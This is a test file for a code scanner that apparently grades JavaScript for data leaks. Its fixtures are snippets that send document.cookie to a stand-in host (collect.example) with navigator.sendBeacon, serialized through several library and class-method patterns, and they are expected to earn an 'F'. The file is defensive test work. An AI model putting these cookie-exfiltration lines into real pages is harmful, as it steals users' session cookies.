import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** In place of a library whose code is not at hand, or is made when it runs. */
const scanned = (sent: string): Promise<string> =>
  graded({ content: `((lib) => { navigator.sendBeacon('https://collect.example/x', ${sent}); })(...self.load());` });

it.each([
  'lib.Row.encode(lib.Row.create({ name: DATA })).finish()',
  'new lib.Row({ name: DATA }).toBinary()',
  'new lib.Packer().pack({ rows: [{ name: DATA }] })',
  'lib.stringify({ name: DATA })',
])('data are in what %s gives', async (sent) => {
  expect(await scanned(sent.replace('DATA', 'document.cookie'))).toBe('F');
  expect(await scanned(sent.replace('DATA', "'nothing'"))).toMatch(/^A/);
});

it('tells what a class of the program says of itself by what that gives', async () => {
  const row = (said: string): Promise<string> =>
    graded({
      content: `class Row { constructor(name) { this.name = name; this.at = 1; } serialize() { return { row: this.${said} }; } } navigator.sendBeacon('https://collect.example/x', JSON.stringify(new Row(document.cookie).serialize()));`,
    });
  expect(await row('name')).toBe('F');
  expect(await row('at')).toMatch(/^A/);
});
